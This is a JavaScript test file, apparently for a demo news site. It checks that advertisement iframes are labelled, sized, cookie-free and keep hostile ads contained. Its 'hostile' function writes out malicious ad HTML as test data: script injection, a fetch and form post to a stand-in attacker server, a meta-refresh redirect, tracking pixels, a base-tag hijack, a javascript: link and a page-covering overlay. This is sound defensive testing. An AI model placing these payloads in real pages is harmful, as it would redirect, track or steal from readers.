// Advertisements: filled places on the demo's pages, and what hostile ones cannot do to a reader.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:net';
import { EDITIONS, articlesOf, get } from '../paper.mjs';
import { close, moves, open, openBrowser, sidewaysScroll } from '../browser.mjs';
import { openNewsroom, skip } from '../newsroom.mjs';

let browser;
before(async () => { browser = await openBrowser(); });
after(() => browser?.close());

const LABELS = { en: 'Advertisement', ru: 'Реклама', hy: 'Գովազդ', fr: 'Publicité', ar: 'إعلان' };

/** The first article of an edition that has a frame. */
async function advertised(code) {
  for (const path of await articlesOf(code)) {
    if ((await (await get(path)).text()).includes('<iframe')) return path;
  }
  throw new Error(`No article of ${code} has an advertisement.`);
}

for (const { code, dir } of EDITIONS) {
  test(`an article of the ${code} edition shows a labelled advertisement and does not move`, async () => {
    const path = await advertised(code);
    for (const { width, light, javaScript } of [{ width: 1280, light: 'light', javaScript: true }, { width: 320, light: 'dark', javaScript: true }, { width: 390, light: 'light', javaScript: false }]) {
      const page = await open(browser, path, { width, light, javaScript });
      await page.locator('.ad iframe').scrollIntoViewIfNeeded();
      const inside = page.frameLocator('.ad iframe').locator('a[href="go"]');
      await inside.waitFor();
      assert.equal(await page.locator('.ad > p').innerText(), LABELS[code]);
      assert.equal(await page.locator('.ad iframe').getAttribute('title'), LABELS[code]);
      const box = await page.locator('.ad iframe').boundingBox();
      assert.ok(box.height === 250 && box.width <= Math.min(width, 300), JSON.stringify(box));
      const html = page.frameLocator('.ad iframe').locator('html');
      assert.equal(await html.getAttribute('lang'), code);
      assert.equal(await html.getAttribute('dir'), dir);
      if (javaScript) assert.deepEqual(await moves(page), [], `${path} moves at ${width} px`);
      assert.ok((await sidewaysScroll(page)) <= 0, `${path} scrolls sideways at ${width} px`);
      assert.deepEqual(page.strangers, []);
      assert.deepEqual(page.complaints, []);
      assert.deepEqual(await page.context().cookies(), []);
      await close(page);
    }
  });
}

test('a section has a place of its shape for a phone and for a desk, and none above a sensitive story', async () => {
  // The demo's front is led by a war.
  assert.ok(!(await (await get('/en/')).text()).includes('<iframe'));
  for (const [width, size] of [[1280, [728, 90]], [360, [300, 100]]]) {
    const page = await open(browser, '/en/culture', { width });
    await page.frameLocator('.ad iframe').locator('a[href="go"]').waitFor();
    const box = await page.locator('.ad iframe').boundingBox();
    assert.deepEqual([box.width, box.height], size);
    assert.deepEqual(await moves(page), []);
    assert.ok((await sidewaysScroll(page)) <= 0);
    await close(page);
  }
});

test('an advertisement is reached and followed by keyboard, in a window of its own', async () => {
  const page = await open(browser, await advertised('en'), { width: 1280 });
  await page.locator('.ad iframe').scrollIntoViewIfNeeded();
  const link = page.frameLocator('.ad iframe').locator('a[href="go"]');
  await link.waitFor();
  let found = false;
  for (let steps = 0; steps < 200 && !found; steps += 1) {
    await page.keyboard.press('Tab');
    found = (await page.evaluate(() => document.activeElement?.tagName)) === 'IFRAME';
  }
  assert.ok(found, 'Tab comes to the frame');
  const [window] = await Promise.all([page.context().waitForEvent('page'), page.keyboard.press('Enter')]);
  const asked = await window.waitForEvent('request', { timeout: 5000 }).catch(() => null);
  assert.ok(asked === null || /\/advertisement\/\d+\/go$|\.example\//.test(asked.url()), asked?.url());
  assert.match(page.url(), /\/en\/post\//, 'the story stays');
  await close(page);
});

test('a frame is chosen anew, kept by no cache, and sets no cookie', async () => {
  const answer = await get('/en/advertisement/beside-the-story');
  assert.equal(answer.status, 200);
  assert.equal(answer.headers.get('cache-control'), 'no-store');
  assert.equal(answer.headers.get('set-cookie'), null);
  const seen = new Set();
  for (let times = 0; times < 40; times += 1) seen.add(await (await get('/en/advertisement/beside-the-story')).text());
  assert.ok(seen.size > 1, 'two campaigns take turns');
  const go = [...seen].map((html) => /<base href="([^"]+)"/.exec(html)[1]);
  for (const base of go) {
    const click = await get(`${base}go`);
    assert.equal(click.status, 302);
    assert.match(click.headers.get('location'), /^https:\/\/[a-z0-9-]+\.example\//);
    assert.equal(click.headers.get('referrer-policy'), 'no-referrer');
  }
});

/** What somebody hostile would write, reaching for a server at `evil`. */
const hostile = (evil) => ({
  'a script': `<script>alert(1);top.location='${evil}/script';fetch('${evil}/fetch')</script><img src="none" onerror="alert(2)"><svg onload="alert(3)">`,
  'a refresh': `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`,
  'a form': `<form action="${evil}/form" method="post"><input name="q" autofocus><button id="act">Go</button></form>`,
  'pictures from elsewhere': `<img src="${evil}/pixel.gif"><picture><source srcset="${evil}/set.webp"><img src="${evil}/other.png"></picture><video src="${evil}/film.mp4" poster="${evil}/poster.jpg" autoplay></video><audio src="${evil}/sound.mp3" autoplay></audio>`,
  'styles and fonts from elsewhere': `<style>@import url(${evil}/import.css);@font-face{font-family:x;src:url(${evil}/font.woff2)}body{font-family:x;background:url(${evil}/background.png)}</style><p>Words</p>`,
  'another base': `<base href="${evil}/base/" target="_top"><img src="relative.gif"><a id="act" href="relative">Go</a>`,
  'a huge picture and a cover': '<img src="none" width="99999" height="99999"><div style="position:fixed;inset:-9999px;z-index:99999;background:red"></div>',
  'a script in a link': '<a id="act" href="javascript:alert(5)" style="position:fixed;inset:0">Go</a>',
  'a link to the top': `<a id="act" href="${evil}/top" target="_top" ping="${evil}/ping">Go</a>`,
});

test('a hostile advertisement reaches neither the page nor anybody else', { skip }, async () => {
  const { browser: own, url, person, api, close: end } = await openNewsroom();
  const touched = [];
  const server = createServer((socket) => {
    // Even a connection without a question would tell who reads.
    const touch = { asked: '' };
    touched.push(touch);
    socket.on('data', (bytes) => { touch.asked += bytes; });
    socket.on('error', () => {});
    setTimeout(() => socket.destroy(), 500);
  });
  await new Promise((ready) => server.listen(0, '127.0.0.1', ready));
  const evil = `http://127.0.0.1:${server.address().port}`;
  try {
    const ana = await person('ana@paper.example');
    const act = (path, data) => api(ana, path, data);
    const { editions, sections } = await act('/settings');
    const english = editions.find((edition) => edition.code === 'en');
    await act('/editions/en', { ...english, advertisements: true });
    let section = sections.find((one) => one.edition === 'en');
    section ??= (await act('/sections', { edition: 'en', key: 'world', slug: 'world', name: 'World', position: 1 })).sections[0];
    const body = { type: 'doc', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Rain fell on the stand.' }] }] };
    let article = await act('/articles', { edition: 'en', section: section.id, content: { headline: 'Rain stops play', body } });
    article = await act(`/articles/${article.id}/approve`, { version: article.version, revision: article.draft });
    article = await act(`/articles/${article.id}/publish`, { version: article.version, revision: article.draft });
    const day = 86_400_000;
    const asked = {
      advertiser: 'Mallory', name: 'Hostile', weight: 1, from: new Date(Date.now() - day).toISOString(), until: new Date(Date.now() + day).toISOString(),
      creatives: [{ slot: 'beside-the-story', href: 'https://mallory.example/', html: 'x' }], version: null,
    };
    let campaign = await act('/campaigns', asked);
    campaign = await act(`/campaigns/${campaign.id}/start`, { version: campaign.version });
    for (const [name, html] of Object.entries(hostile(evil))) {
      campaign = await act(`/campaigns/${campaign.id}`, { ...asked, version: campaign.version, creatives: [{ ...asked.creatives[0], id: campaign.creatives[0].id, html }] });
      const context = await own.newContext({ baseURL: url, viewport: { width: 1280, height: 900 } });
      const page = await context.newPage();
      const told = [];
      const windows = [];
      page.on('dialog', (dialog) => { told.push(dialog.message()); void dialog.dismiss(); });
      context.on('page', (window) => { if (window !== page) windows.push(window); });
      touched.length = 0;
      await page.goto('/en/post/rain-stops-play');
      const address = page.url();
      await page.locator('.ad iframe').waitFor();
      await page.waitForTimeout(700);
      assert.deepEqual(touched.map((touch) => touch.asked.split('\r\n')[0]), [], `${name} asked somebody else`);
      const box = await page.locator('.ad iframe').boundingBox();
      assert.ok(box.width <= 300 && box.height === 250, `${name}: ${JSON.stringify(box)}`);
      assert.deepEqual(await moves(page), [], `${name} moved the page`);
      assert.equal(await page.evaluate(() => document.activeElement?.tagName), 'BODY', `${name} took the focus`);
      // Whoever clicks leaves only for a window of their own.
      const target = page.frameLocator('.ad iframe').locator('#act');
      if ((await target.count()) > 0) {
        await target.click({ timeout: 3000 }).catch(() => {});
        await page.waitForTimeout(700);
      }
      assert.deepEqual(told, [], `${name} ran a script`);
      assert.equal(page.url(), address, `${name} took the reader away`);
      assert.equal(await page.locator('h1').innerText(), 'Rain stops play', name);
      const posted = touched.filter((touch) => touch.asked.startsWith('POST'));
      assert.deepEqual(posted, [], `${name} sent something`);
      assert.deepEqual(await context.cookies(), [], name);
      for (const window of windows) await window.close();
      await context.close();
    }
    // No policy keeps Chromium from opening a connection for these, so they are not taken at all.
    for (const html of [`<link rel="preconnect" href="${evil}">`, `<iframe src="${evil}/frame"></iframe>`, `<object data="${evil}/object"></object>`, `<embed src="${evil}/embed">`]) {
      const knock = { ...asked, version: campaign.version, creatives: [{ ...asked.creatives[0], html }] };
      const refused = await ana.request.post(`/desk/api/campaigns/${campaign.id}`, { data: knock, headers: { origin: url } });
      assert.equal(refused.status(), 422, html);
    }
  } finally {
    server.close();
    await end();
  }
});
